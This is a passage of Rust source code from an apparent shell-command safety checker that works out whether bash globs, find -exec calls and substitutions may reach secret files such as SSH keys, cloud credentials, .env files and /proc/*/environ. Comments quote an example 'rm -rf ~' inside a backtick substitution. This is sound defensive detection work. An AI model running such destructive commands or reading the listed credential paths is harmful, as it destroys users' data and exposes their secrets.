        let name = store.rsplit('/').next().unwrap_or(store);
        patterns
            .iter()
            .any(|pattern| name_glob::may_match_name(pattern, name))
    }) {
        found.extend(
            folders
                .iter()
                .filter_map(|folder| home_store_below(folder, store)),
        );
    }
    found
}

/// Where the home's `store` (a row of [`knowledge::HOME_STORES`]) lies when a search
/// starts at `root` (normalised, no trailing `/`), if it lies below it: the root is a home
/// (`~`, `/home/u`, `/Users/u`, `/root`), above the homes (`/`, `/home`, `/Users`), or a
/// folder of the home the store is in (`~/.mozilla`)
fn home_store_below(root: &str, store: &str) -> Option<String> {
    let in_home = format!("~/{store}");
    let is_home = |root: &str| {
        root == "~"
            || root == "/root"
            || ["/home/", "/Users/"].iter().any(|homes| {
                root.strip_prefix(homes)
                    .is_some_and(|user| !user.is_empty() && !user.contains('/'))
            })
    };
    if is_home(root) {
        Some(format!("{root}/{store}"))
    } else if matches!(root, "" | "/home" | "/Users") {
        Some(in_home)
    } else {
        let below = root.strip_prefix("~/").is_some_and(|folder| {
            let mut parts = store.split('/');
            folder.split('/').all(|part| {
                parts
                    .next()
                    .is_some_and(|row| name_glob::part_may_be(row, part))
            })
        });
        below.then_some(in_home)
    }
}

/// Whether `command` turns on bash's `dotglob`, or may: `shopt -s` of it or of a word only
/// known at run time
fn turns_on_dotglob(command: &SimpleCommand) -> bool {
    command.program == "shopt"
        && command
            .flags
            .iter()
            .any(|flag| flag.starts_with('-') && flag.contains('s'))
        && (command.operands.iter().any(|operand| operand == "dotglob")
            || !command.unknown.is_empty())
}

/// What a pattern in `path` names once `dotglob` lets it match a name that starts with `.`:
/// each part that starts with a pattern character may start with a `.` too (`~/?bashrc`
/// may be `~/.bashrc`, `~/*` `~/.ssh`); `None` for a path with no such part
fn dotfiles_a_pattern_may_name(path: &str) -> Option<String> {
    let parts: Vec<&str> = path.split('/').collect();
    let leads = |part: &&str| part.starts_with(['*', '?', '[']);
    parts.iter().any(leads).then(|| {
        parts
            .iter()
            .map(|part| {
                if leads(part) {
                    format!(".{part}")
                } else {
                    (*part).to_owned()
                }
            })
            .collect::<Vec<_>>()
            .join("/")
    })
}

/// The secret files a pattern in `path`'s last part may name where it lies (`.e*` and
/// `.en?` may be `.env`, `id_*` may be `id_rsa`; see [`knowledge::SECRET_FILES`]), as bash
/// matches it against the files there are: a pattern read as the name it may be (below the
/// project, `app/[id]/page.tsx`) stands for those too. Only a pattern with a literal start
/// names one, and only one starting with `.` a name that does (bash's leading dot), so `*`
/// and `*.o` name none.
fn secrets_a_pattern_may_name(path: &str) -> Vec<String> {
    // The folder with its `/`, nothing for a name relative to a folder not known.
    let (folder, name) = path
        .rfind('/')
        .map_or(("", path), |slash| path.split_at(slash + 1));
    let literal = name.find(['*', '?', '[']).and_then(|at| name.get(..at));
    if literal.is_none_or(str::is_empty) || expand::is_unknown(path) {
        return Vec::new();
    }
    let mut found: Vec<String> = knowledge::SECRET_FILES
        .iter()
        .map(|secret| secret.rsplit('/').next().unwrap_or(secret))
        .filter(|secret| name.starts_with('.') || !secret.starts_with('.'))
        .filter(|secret| name_glob::may_match_name(name, secret))
        .map(|secret| format!("{folder}{secret}"))
        .collect();
    found.dedup();
    found
}

/// The secrets a pattern in a folder's part of `path` may name, as bash matches it part by
/// part: `~/.ss?/id_rsa` and `~/.a?s/credentials` may be a key and a cloud's credentials,
/// `~/.s*` the SSH folder, `/proc/*/environ` a process's environment. A row of
/// [`knowledge::SECRET_FOLDERS`] may lie at any depth, one of [`knowledge::SECRET_FILES`]
/// ends the path; each part the row lies over must be able to match the row's part (a
/// pattern with no leading dot matches no dotted name, as bash's `*` does not), and one of
/// them must be a pattern (a literal path is [`knowledge::is_secret_path`]'s). The path
/// stands for each with the row put in place of the parts it lies over.
fn secrets_patterned_folders_may_name(path: &str) -> Vec<String> {
    if expand::is_unknown(path) {
        return Vec::new();
    }
    let parts: Vec<&str> = path.split('/').collect();
    let mut found = Vec::new();
    let mut place = |start: usize, row: &[&str]| {
        let (Some(before), Some(over), Some(after)) = (
            parts.get(..start),
            parts.get(start..start + row.len()),
            parts.get(start + row.len()..),
        ) else {
            return;
        };
        if over.iter().any(|part| name_glob::is_pattern(part))
            && over
                .iter()
                .zip(row)
                .all(|(part, name)| name_glob::part_may_be(part, name))
        {
            let named: Vec<&str> = [before, row, after].concat();
            found.push(named.join("/"));
        }
    };
    for folder in knowledge::SECRET_FOLDERS {
        let row: Vec<&str> = folder.trim_end_matches('/').split('/').collect();
        for start in 1..=parts.len().saturating_sub(row.len()) {
            place(start, &row);
        }
    }
    for file in knowledge::SECRET_FILES {
        let row: Vec<&str> = file.split('/').collect();
        if let Some(start) = parts
            .len()
            .checked_sub(row.len())
            .filter(|start| *start > 0)
        {
            place(start, &row);
        }
    }
    // `/proc/PID/environ`: a pattern where the process's number or `self` goes may match one.
    if let ["", process_folder, process, environ] = parts.as_slice() {
        const PROCESSES: &[&str] = &["self", "1", "12", "123", "1234", "12345", "123456"];
        if [process_folder, process, environ]
            .iter()
            .any(|part| name_glob::is_pattern(part))
            && name_glob::part_may_be(process_folder, "proc")
            && name_glob::part_may_be(environ, "environ")
            && PROCESSES
                .iter()
                .any(|name| name_glob::part_may_be(process, name))
        {
            found.push(ENVIRONMENT_FILE.to_owned());
        }
    }
    found.dedup();
    found
}

/// Whether `ls` given `flags` prints only names, one word each, never `.` or `..`: not a
/// long listing (`-l`, `-n`, `-o`, `-g`, `-s`), every entry (`-a`, `-f`), a mark after a
/// name (`-F`, `-p`, `--classify`), a recursive listing's headers (`-R`) or commas (`-m`)
fn ls_prints_only_names(flags: &[String]) -> bool {
    const OTHER_OUTPUT: &[&str] = &[
        "-l",
        "-n",
        "-o",
        "-g",
        "-s",
        "-a",
        "-f",
        "-F",
        "-p",
        "-R",
        "-m",
        "--all",
        "--classify",
        "--recursive",
        "--size",
        "--format",
        "--indicator-style",
        "--file-type",
    ];
    !flags
        .iter()
        .any(|flag| OTHER_OUTPUT.contains(&flag.as_str()))
}

/// The system folders a pattern in `path`'s leading parts may name (`/e?c/hosts` may be
/// `/etc/hosts`, `/[u]sr/lib/x` `/usr/lib/x`), as bash matches it against the folders there
/// are: each part that is a pattern, under a folder [`knowledge::folders_on_every_system`] knows, is
/// matched against the folders that folder holds on every system. The path stands for each.
fn system_folders_a_pattern_may_name(path: &str) -> Vec<String> {
    let pattern = |text: &str| memchr::memchr3(b'*', b'?', b'[', text.as_bytes()).is_some();
    if !path.starts_with('/') || !pattern(path) || expand::is_unknown(path) {
        return Vec::new();
    }
    let mut found = vec![String::new()];
    let mut matched = false;
    for part in path.split('/').skip(1) {
        let mut next = Vec::with_capacity(found.len());
        for folder in &found {
            let parent = if folder.is_empty() {
                "/"
            } else {
                folder.as_str()
            };
            let children = Some(part)
                .filter(|part| pattern(part))
                .and_then(|_| knowledge::folders_on_every_system(parent));
            match children {
                Some(children) => {
                    for child in children
                        .iter()
                        .filter(|child| name_glob::may_match_name(part, child))
                    {
                        matched = true;
                        next.push(format!("{folder}/{child}"));
                    }
                }
                None => next.push(format!("{folder}/{part}")),
            }
        }
        found = next;
    }
    if !matched {
        return Vec::new();
    }
    found
}

/// The files `find` with `args` finds, as far as the line tells: each root it may find
/// itself, and below the roots the children its name tests and the secrets those tests may
/// match name; a root it cannot find itself stands for what lies below it
fn found_files(args: &[String]) -> Vec<String> {
    let mut roots = find_roots(args);
    // A file found by its name is below a root, named as the pattern says (`find ~ -name
    // '.*rc'` finds `~/.*rc`, as the glob reads): each root stands with such a child too.
    let names: Vec<&String> = args
        .windows(2)
        .filter_map(|pair| match pair {
            [test, name] if matches!(test.as_str(), "-name" | "-iname") => Some(name),
            _ => None,
        })
        .filter(|name| !name.contains('/') && !expand::is_unknown(name))
        .collect();
    let mut children: Vec<String> = roots
        .iter()
        .filter(|root| !expand::is_unknown(root))
        .flat_map(|root| {
            names
                .iter()
                .map(move |name| format!("{}/{name}", root.trim_end_matches('/')))
        })
        .collect();
    children.extend(found_secrets(args, &roots));
    // A root the search cannot find itself stands for what lies below it only: a child
    // named by a test every file must pass, else everything the root holds.
    let narrowed = narrowing_names(args).is_some_and(|patterns| {
        patterns.iter().any(|(test, pattern)| {
            *test != "-path" && !pattern.contains('/') && !expand::is_unknown(pattern)
        })
    });
    let (kept, dropped): (Vec<String>, Vec<String>) = roots
        .into_iter()
        .partition(|root| expand::is_unknown(root) || finds_root(args, root));
    roots = kept;
    if !narrowed {
        children.extend(
            dropped
                .iter()
                .map(|root| format!("{}/*", root.trim_end_matches('/'))),
        );
    }
    // A child a name test gives may be a secret the tests find too (`-name .env`).
    for child in children {
        if !roots.contains(&child) {
            roots.push(child);
        }
    }
    roots
}

/// Whether the word `raw` is one command substitution, unquoted: `$(…)` or `` `…` ``
fn is_substitution(raw: &str) -> bool {
    if let Some(inner) = raw.strip_prefix('`') {
        return inner.find('`').is_some_and(|end| end + 1 == inner.len());
    }
    if !raw.starts_with("$(") || raw.starts_with("$((") {
        return false;
    }
    // Its first `(` closes at its end: `$(a)$(b)` is two.
    let mut depth = 0_usize;
    for (at, byte) in raw.bytes().enumerate() {
        match byte {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return at + 1 == raw.len();
                }
            }
            _ => {}
        }
    }
    false
}

/// The commands `find` runs for each file: `-exec`/`-execdir`/`-ok`/`-okdir` up to `;` or `+`,
/// once per file it finds ([`found_files`]), `{}` standing for it
fn find_exec(args: &[String]) -> Vec<Vec<String>> {
    let roots = found_files(args);
    let mut commands = Vec::new();
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if ["-exec", "-execdir", "-ok", "-okdir"].contains(&arg.as_str()) {
            let command: Vec<&String> = words
                .by_ref()
                .take_while(|word| *word != ";" && *word != "+")
                .collect();
            // `{}` is each file found: a root, or what lies below it (run from its folder,
            // for `-execdir`); the root is the closest the line tells.
            for root in &roots {
                commands.push(
                    command
                        .iter()
                        .map(|word| match word.as_str() {
                            "{}" => root.clone(),
                            text if text.contains("{}") && !expand::is_unknown(root) => {
                                text.replace("{}", root)
                            }
                            text => text.to_owned(),
                        })
                        .collect(),
                );
            }
        }
    }
    commands
}

/// Whether `find` with `args` may find the root `root` itself, not only what lies below it:
/// not with `-mindepth 1` or more, nor when a `-name`/`-iname`/`-path` test every file must
/// pass before any action cannot match the root (`find . -name __pycache__` never finds `.`)
fn finds_root(args: &[String], root: &str) -> bool {
    let below_only = args.windows(2).any(|pair| match pair {
        [option, depth] => {
            option == "-mindepth" && depth.parse::<u32>().is_ok_and(|depth| depth >= 1)
        }
        _ => false,
    });
    if below_only {
        return false;
    }
    let Some(patterns) = narrowing_names(args) else {
        return true;
    };
    let trimmed = root.trim_end_matches('/');
    let name = trimmed.rsplit('/').next().unwrap_or(trimmed);
    let name = if name.is_empty() { "/" } else { name };
    let path = if trimmed.is_empty() { "/" } else { root };
    patterns.iter().all(|(test, pattern)| {
        expand::is_unknown(pattern)
            || if *test == "-path" {
                may_match_path(pattern, path)
            } else {
                name_glob::may_match_name(pattern, name)
            }
    })
}

/// The `-name`/`-iname`/`-path` tests, with their patterns, that every file `find` acts on
/// must pass: those before its first action, joined by the implicit AND; `None` when an
/// operator (`-o`, `!`, `,`, parentheses) stands on the line, as a file may then pass by
/// them. A test after an action narrows nothing: find runs the action before it.
fn narrowing_names(args: &[String]) -> Option<Vec<(&str, &str)>> {
    if args
        .iter()
        .any(|arg| matches!(arg.as_str(), "-o" | "-or" | "!" | "-not" | "," | "(" | ")"))
    {
        return None;
    }
    let mut tests = args
        .iter()
        .take_while(|arg| !FIND_ACTIONS.contains(&arg.as_str()));
    let mut patterns = Vec::new();
    while let Some(test) = tests.next() {
        if matches!(test.as_str(), "-name" | "-iname" | "-path") {
            if let Some(pattern) = tests.next() {
                patterns.push((test.as_str(), pattern.as_str()));
            }
        }
    }
    Some(patterns)
}

/// The `find` primaries that act on a file (run, delete, print to a file), before which the
/// tests that narrow what it acts on stand
const FIND_ACTIONS: &[&str] = &[
    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
    "-print", "-print0", "-printf", "-ls", "-prune", "-quit",
];

/// Whether the `find -path` glob `pattern` may match `path`, whose `*` crosses folders
fn may_match_path(pattern: &str, path: &str) -> bool {
    expand::pattern_matcher(pattern).is_none_or(|matcher| matcher.is_match(path))
}

/// The scripts of the backtick substitutions in the body of a here-document whose
/// delimiter is not quoted that the parser left as text (tree-sitter-bash parses `$(...)`
/// there, not backticks), their escapes of `` ` ``, `$` and `\` undone as bash undoes them;
/// one left open runs to the body's end
fn unparsed_backticks<N: Syntax>(body: N, source: &str) -> Vec<String> {
    let written = text(body, source);
    if !written.contains('`') {
        return Vec::new();
    }
    let mut parsed = Vec::new();
    let mut pending: Vec<N> = body.named_children().collect();
    while let Some(node) = pending.pop() {
        if node.kind() == "command_substitution" {
            parsed.push(node.byte_range());
        } else {
            pending.extend(node.named_children());
        }
    }
    let start = body.byte_range().start;
    let mut scripts = Vec::new();
    let mut open = None;
    let mut bytes = written.bytes().enumerate();
    while let Some((at, byte)) = bytes.next() {
        match byte {
            b'\\' => {
                bytes.next();
            }
            b'`' => match open.take() {
                None => open = Some(at),
                Some(from) => {
                    if !parsed.iter().any(|range| range.contains(&(start + from))) {
                        scripts.push(backtick_script(
                            written.get(from + 1..at).unwrap_or_default(),
                        ));
                    }
                }
            },
            _ => {}
        }
    }
    if let Some(from) = open {
        if !parsed.iter().any(|range| range.contains(&(start + from))) {
            scripts.push(backtick_script(written.get(from + 1..).unwrap_or_default()));
        }
    }
    scripts
}

/// The script of a backtick substitution written `inner`: bash undoes its escapes of `\`,
/// `` ` `` and `$` before running it
fn backtick_script(inner: &str) -> String {
    let mut script = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    while let Some(ch) = chars.next() {
        match chars.peek() {
            Some(&next @ ('\\' | '`' | '$')) if ch == '\\' => {
                script.push(next);
                chars.next();
            }
            _ => script.push(ch),
        }
    }
    script
}

/// The `$(...)`, backtick and `<(...)` substitutions in `parts`, whose output the command
/// reads, and the `>(...)` ones, which read the command's output
fn substitutions<N: Syntax>(parts: &[N]) -> (Vec<N>, Vec<N>) {
    let mut inputs = Vec::new();
    let mut outputs = Vec::new();
    // Depth first, last part and last child first (the lists are reversed at the end). A
    // node that cannot hold a substitution is never stacked: a plain command allocates nothing.
    let mut pending: Vec<N> = Vec::new();
    for part in parts.iter().rev() {
        let mut node = Some(*part);
        while let Some(current) = node {
            match current.kind() {
                "command_substitution" => inputs.push(current),
                "process_substitution" => {
                    let reads_output = current
                        .children()
                        .next()
                        .is_some_and(|open| open.kind() == ">(");
                    if reads_output {
                        outputs.push(current);
                    } else {
                        inputs.push(current);
                    }
                }
                kind if DESCENDED.contains(&kind) => pending.extend(
                    current
                        .named_children()
                        .filter(|child| may_hold_substitution(child.kind())),
                ),
                _ => {}
            }
            node = pending.pop();
        }
    }
    inputs.reverse();
    outputs.reverse();
    (inputs, outputs)
}

/// The scripts of the backquoted substitutions in the parameter expansions of `parts`
/// (`"${x:-`rm -rf ~`}"`), which tree-sitter-bash leaves inside a word of the expansion
/// where bash runs them
fn expansion_backticks<N: Syntax>(parts: &[N], source: &str) -> Vec<String> {
    let mut scripts = Vec::new();
    let holds_backtick = |node: &N| text(*node, source).contains('`');
    let mut pending: Vec<N> = parts.iter().copied().filter(holds_backtick).collect();
    while let Some(node) = pending.pop() {
        if node.kind() == "expansion" {
            scripts.extend(unparsed_backticks(node, source));
        } else {
            pending.extend(
                node.named_children()
                    .filter(|child| DESCENDED.contains(&child.kind()) && holds_backtick(child)),
            );
        }
    }
    scripts
}

/// Whether the source text of a node may hold a substitution: every one opens with `$(`,
/// `<(`, `>(` or a backtick, and a node's text holds the text of all its descendants
fn may_substitute(text: &str) -> bool {
    text.bytes().any(|byte| byte == b'(' || byte == b'`')
}

/// Whether a node is a substitution or one [`substitutions`] looks inside
fn may_hold_substitution(kind: &str) -> bool {
    kind == "command_substitution" || kind == "process_substitution" || DESCENDED.contains(&kind)
}

/// The node kinds [`substitutions`] looks inside
const DESCENDED: &[&str] = &[
    "command_name",
    "heredoc_redirect",
    "herestring_redirect",
    "file_redirect",
    "string",
    "translated_string",
    "concatenation",
    "expansion",
    "variable_assignment",
    "array",
    "heredoc_body",
    "arithmetic_expansion",
    "subscript",
    "binary_expression",
    "unary_expression",
    "parenthesized_expression",
];

/// The source text of a node
fn text<N: Syntax>(node: N, source: &str) -> &str {
    source.get(node.byte_range()).unwrap_or_default()
}

/// Whether `ch` separates words (blanks, and the parts of a line continuation, which
/// `limits` has already vetted)
fn is_blank(ch: char) -> bool {
    matches!(ch, ' ' | '\t' | '\\' | '\n' | '\r')
}
